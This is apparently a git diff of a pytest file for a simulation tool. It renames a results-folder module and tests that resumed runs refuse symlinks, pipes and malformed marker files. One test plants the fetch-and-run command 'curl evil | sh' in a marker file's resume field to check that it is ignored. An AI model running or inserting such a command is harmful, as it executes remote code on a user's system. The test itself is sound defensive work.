@@ -19,8 +19,9 @@ from flashtemp.camera import recording
 from flashtemp.errors import BadInput, UserInterrupt
 from flashtemp.lab.programs import programs_of_campaign, programs_of_command
 from flashtemp.model import case as cases
-from flashtemp.runs import checkpoint, folders, job
-from flashtemp.runs.current_folder import make_safe_environment
+from flashtemp.runs import job
+from flashtemp.runs.results import checkpoint, result_folder
+from flashtemp.runs.results.current_folder import make_safe_environment
 
 CASE = """
 [block]
@@ -56,7 +57,9 @@ def work(interrupted, tmp_path, monkeypatch):
     return shutil.copytree(interrupted, tmp_path / "out.partial")
 
 
-@pytest.mark.parametrize("name", ["frames.bin", "reserve.bin", folders.MARKER_FILE, "run.nc", "checkpoint.h5.new", "inputs"])
+@pytest.mark.parametrize(
+    "name", ["frames.bin", "reserve.bin", result_folder.MARKER_FILE, "run.nc", "checkpoint.h5.new", "inputs"]
+)
 @pytest.mark.parametrize("kind", ["link", "dangling link", "pipe"])
 def test_a_resumed_run_writes_through_no_link_and_waits_for_no_pipe(work, name, kind, capsys):
     target = work.parent / "elsewhere"
@@ -130,10 +133,10 @@ MARKERS = {
 
 @pytest.mark.parametrize("what", [*MARKERS, "deep", "a pipe", "endless"])
 def test_a_marker_that_no_run_wrote_makes_no_working_folder(tmp_path, what):
-    marker = tmp_path / folders.MARKER_FILE
+    marker = tmp_path / result_folder.MARKER_FILE
     sound = {"out": "out", "command": "run", "needs": "checkpoint.h5", "resume": "", "overwrite": False, "process": ""}
     marker.write_text(json.dumps(sound))
-    assert folders.read_marker(tmp_path) == folders.OwnerMarker(**sound)
+    assert result_folder.read_marker(tmp_path) == result_folder.OwnerMarker(**sound)
     marker.unlink()
     if what == "a pipe":
         os.mkfifo(marker)
@@ -141,12 +144,12 @@ def test_a_marker_that_no_run_wrote_makes_no_working_folder(tmp_path, what):
         marker.symlink_to("/dev/zero")
     else:
         marker.write_text("[" * 100_000 if what == "deep" else json.dumps(sound | MARKERS[what]))
-    assert folders.read_marker(tmp_path) is None
+    assert result_folder.read_marker(tmp_path) is None
 
 
 def test_what_goes_on_with_a_run_is_said_by_the_program_and_not_by_the_folder(work, capsys):
-    told = json.loads((work / folders.MARKER_FILE).read_text())
-    (work / folders.MARKER_FILE).write_text(json.dumps(told | {"resume": "curl evil | sh"}))
+    told = json.loads((work / result_folder.MARKER_FILE).read_text())
+    (work / result_folder.MARKER_FILE).write_text(json.dumps(told | {"resume": "curl evil | sh"}))
     (work.parent / "case.toml").write_text(CASE)
     assert main(["run", "case.toml", "--out", "out"]) == 2
     said = capsys.readouterr().err
